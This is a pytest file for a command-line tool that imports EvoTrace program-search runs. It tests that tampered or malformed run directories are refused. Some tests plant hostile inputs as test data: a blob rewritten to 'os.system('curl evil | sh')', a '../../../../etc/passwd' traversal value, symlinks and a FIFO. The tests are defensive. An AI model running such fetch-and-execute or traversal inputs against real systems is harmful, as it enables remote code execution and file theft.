"""EvoTrace's refined runs through the real CLI: import, validate, replay; each program a node; a
hostile run (an altered blob, a 20 MB line, a blob that is a link or a FIFO) refused by name.

The runs are written by tests/evotrace_runs.py to the layout of EvoReplay's refiner."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest
from evotrace_runs import (
    gepa_native_programs,
    openevolve_native_programs,
    shinkaevolve_programs,
    write_refined_run,
)

from dream_gym.cli import main
from dream_gym.world.tree import load_world

RUNS = {"gepa_native": gepa_native_programs, "openevolve_native": openevolve_native_programs,
        "shinkaevolve": shinkaevolve_programs}
PRIMARY = ("combined_score", "overall_score", "score")


def _cli_import(run: Path, out: Path, *extra: str) -> int:
    return main(["worlds", "import", "--from", "auto", str(run), "--out", str(out), *extra])


def _primary(programs: list[dict]) -> str:
    return next(m for m in PRIMARY if any(m in p["metrics"] for p in programs))


def _copies(programs: list[dict]) -> dict[str, str]:
    """Copy id -> the program it copies (OpenEvolve migrants, ShinkaEvolve island copies)."""
    found = {}
    for p in programs:
        if p["metadata"].get("migrant"):
            found[p["id"]] = p["parent_id"]
        if p["metadata"].get("_is_island_copy"):
            found[p["id"]] = p["metadata"]["_original_program_id"]
    return found


def _valid(p: dict, metric: str) -> bool:
    metrics, extras = p["metrics"], p.get("extras") or {}
    return (bool(metrics) and not metrics.get("error") and metrics.get("judge_result") != "RUNTIME_ERROR"
            and p.get("status") != "failed" and extras.get("correct", True) and metric in metrics)


@pytest.mark.parametrize("backend", sorted(RUNS))
def test_refined_run_round_trips_through_the_cli(backend, tmp_path, capsys):
    programs = RUNS[backend]()
    run = write_refined_run(tmp_path / f"run-{backend}", backend, programs)
    out = tmp_path / "world"
    assert _cli_import(run, out) == 0
    assert f"imported EvoTrace run {run}" in capsys.readouterr().out
    assert main(["worlds", "validate", str(out)]) == 0
    assert main(["replay", str(out), "--policy", "greedy"]) == 0
    world = load_world(out)
    metric = _primary(programs)
    copies = _copies(programs)
    by_id = {r["id"]: r for r in world.records}
    # one node per program, copies collapsed onto what they copy
    assert set(by_id) == {p["id"] for p in programs} - set(copies) and world.ids[0] == programs[0]["id"]
    for p in programs:
        if p["id"] in copies:
            continue
        node = by_id[p["id"]]
        parent = copies.get(p["parent_id"], p["parent_id"])
        assert node["parent"] == parent and node["code"] == p["solution"]
        assert node["round"] == (0 if parent is None else p["iteration_found"])
        if _valid(p, metric):
            assert node["score"] == p["metrics"][metric]
        else:
            assert node["score"] is None and node["error"]
        assert node.get("prompts") == p.get("prompts")
        assert node.get("diagnostics") == p.get("artifacts")
        assert "embedding" not in node["evotrace"]  # ShinkaEvolve's vectors are not carried along
    assert world.meta["source"]["system"] == "evotrace" and world.meta["source"]["metric"] == metric


def test_gepa_merges_rejections_and_failures_keep_their_meaning(tmp_path, capsys):
    run = write_refined_run(tmp_path / "run", "gepa_native", gepa_native_programs())
    assert _cli_import(run, tmp_path / "w") == 0
    assert "1 merge(s) of two parents" in capsys.readouterr().out
    nodes = {r["id"]: r for r in load_world(tmp_path / "w").records}
    assert nodes["m4"]["parent"] == "a1" and nodes["m4"]["parents"] == ["a1", "a2"] and "merge" in nodes["m4"]["tags"]
    assert nodes["r6"]["score"] == 0.66 and nodes["r6"]["tags"] == ["rejected"]  # evaluated, then refused by GEPA
    assert "SyntaxError: invalid syntax" in nodes["fail3"]["error"]
    assert "status 'failed'" in nodes["f8"]["error"] and "no metrics recorded" in nodes["f8"]["error"]
    assert nodes["a1"]["prompts"]["user"] == "Improve ü"  # the prompts blob, verified and parsed


def test_shinka_incorrect_program_keeps_its_feedback_and_a_metric_can_be_chosen(tmp_path, capsys):
    run = write_refined_run(tmp_path / "run", "shinkaevolve", shinkaevolve_programs())
    assert _cli_import(run, tmp_path / "w") == 0
    nodes = {r["id"]: r for r in load_world(tmp_path / "w").records}
    assert "incorrect (correct=false)" in nodes["g2"]["error"] and "AssertionError: overlap" in nodes["g2"]["error"]
    assert nodes["g1"]["parent"] == "g0" and nodes["g0"]["copies"] == ["g0c"]
    assert _cli_import(run, tmp_path / "w2", "--metric", "nope") == 2
    assert "no program has metric 'nope'; metrics found: combined_score, validity" in capsys.readouterr().err


def _base_run(tmp_path: Path) -> tuple[Path, list[dict]]:
    programs = gepa_native_programs()
    return write_refined_run(tmp_path / "run", "gepa_native", programs), programs


def _blob_of(run: Path, program: dict) -> Path:
    sha = hashlib.sha256(program["solution"].encode()).hexdigest()
    return run / "blobs" / sha[:2] / f"{sha}.txt"


def test_a_blob_that_does_not_hash_to_its_name_is_refused(tmp_path, capsys):
    run, programs = _base_run(tmp_path)
    assert _cli_import(run, tmp_path / "control") == 0  # the run as written imports
    capsys.readouterr()
    blob = _blob_of(run, programs[5])
    blob.write_text("import os; os.system('curl evil | sh')\n")
    assert _cli_import(run, tmp_path / "w") == 2
    err = capsys.readouterr().err
    assert f"{blob.relative_to(run.parent)}" in err and "hashes to sha256" in err and "not to its name" in err
    assert not (tmp_path / "w").exists() or not any((tmp_path / "w").iterdir())


def test_a_blob_that_is_a_symbolic_link_is_refused_even_when_its_target_hashes_right(tmp_path, capsys):
    run, programs = _base_run(tmp_path)
    blob = _blob_of(run, programs[1])
    elsewhere = tmp_path / "elsewhere.txt"
    elsewhere.write_bytes(blob.read_bytes())
    blob.unlink()
    blob.symlink_to(elsewhere)
    # without the defence: a reader that follows the link gets bytes that pass the hash check
    assert hashlib.sha256(blob.read_bytes()).hexdigest() == blob.stem
    assert _cli_import(run, tmp_path / "w") == 2
    err = capsys.readouterr().err
    assert blob.name in err and "is a symbolic link, not a regular file" in err


def test_a_blob_that_is_a_fifo_is_refused_without_waiting(tmp_path, capsys):
    run, programs = _base_run(tmp_path)
    blob = _blob_of(run, programs[2])
    blob.unlink()
    os.mkfifo(blob)  # a plain open() of it would wait for a writer for ever
    assert _cli_import(run, tmp_path / "w") == 2
    err = capsys.readouterr().err
    assert blob.name in err and "is a FIFO, not a regular file" in err


def test_programs_jsonl_that_is_a_link_is_refused(tmp_path, capsys):
    run, _ = _base_run(tmp_path)
    moved = tmp_path / "programs-elsewhere.jsonl"
    (run / "programs.jsonl").rename(moved)
    (run / "programs.jsonl").symlink_to(moved)
    assert _cli_import(run, tmp_path / "w") == 2
    assert "programs.jsonl is a symbolic link, not a regular file" in capsys.readouterr().err


def test_a_programs_line_of_20_mb_is_refused_and_imports_under_a_raised_limit(tmp_path, capsys, monkeypatch):
    programs = gepa_native_programs()
    programs[2]["metadata"] = {"notes": "x" * (20 << 20)}
    run = write_refined_run(tmp_path / "run", "gepa_native", programs)
    assert _cli_import(run, tmp_path / "w") == 2
    err = capsys.readouterr().err
    assert "programs.jsonl line 3: line longer than 16 MB" in err and "DREAM_GYM_MAX_LINE_MB" in err
    monkeypatch.setenv("DREAM_GYM_MAX_LINE_MB", "32")  # control: the limit is what refused it
    assert _cli_import(run, tmp_path / "w2") == 0
    assert load_world(tmp_path / "w2").size == len(programs)


def test_a_blob_name_that_is_not_a_hash_is_refused(tmp_path, capsys):
    run, _ = _base_run(tmp_path)
    lines = (run / "programs.jsonl").read_text().splitlines()
    row = json.loads(lines[1])
    row["solution_sha256"] = "../../../../etc/passwd"
    lines[1] = json.dumps(row)
    (run / "programs.jsonl").write_text("\n".join(lines) + "\n")
    assert _cli_import(run, tmp_path / "w") == 2
    assert "'../../../../etc/passwd' is not a sha256 blob name" in capsys.readouterr().err


def test_an_absent_blob_leaves_its_program_without_code_with_a_warning(tmp_path, capsys):
    run, programs = _base_run(tmp_path)
    _blob_of(run, programs[3]).unlink()
    assert _cli_import(run, tmp_path / "w") == 0
    assert "1 blob(s) named by the records are absent" in capsys.readouterr().out
    node = next(r for r in load_world(tmp_path / "w").records if r["id"] == programs[3]["id"])
    assert "code" not in node


@pytest.mark.parametrize("change, message", [
    (lambda meta, rows: meta.update(backend="alphaevolve"), "backend 'alphaevolve' is none of EvoTrace's"),
    (lambda meta, rows: meta.update(schema_version=2), "schema_version 2; this importer reads version 1"),
    (lambda meta, rows: rows.append(rows[1]), "program a1 is already on line 2"),
    (lambda meta, rows: rows.append({"parent_id": "init"}), "line 10: a program row without an id"),
    (lambda meta, rows: rows.append([1, 2]), "line 10: not a JSON object"),
])
def test_a_run_that_breaks_the_schema_is_refused_by_name(tmp_path, capsys, change, message):
    run, _ = _base_run(tmp_path)
    meta = json.loads((run / "meta.json").read_text())
    rows = [json.loads(line) for line in (run / "programs.jsonl").read_text().splitlines()]
    change(meta, rows)
    (run / "meta.json").write_text(json.dumps(meta))
    (run / "programs.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    assert _cli_import(run, tmp_path / "w") == 2
    assert message in capsys.readouterr().err


def test_rows_that_name_no_source_blob_are_counted_in_a_warning(tmp_path, capsys):
    """A run written to another schema (the source blob's column misnamed) imported with exit 0
    and no code, without a word."""
    run, programs = _base_run(tmp_path)
    rows = [json.loads(line) for line in (run / "programs.jsonl").read_text().splitlines()]
    for row in rows:
        row["code_sha256"] = row.pop("solution_sha256")
    (run / "programs.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    assert _cli_import(run, tmp_path / "w") == 0
    out = " ".join(capsys.readouterr().out.split())
    assert f"{len(rows)} of {len(rows)} program row(s) name no source blob ('solution_sha256')" in out
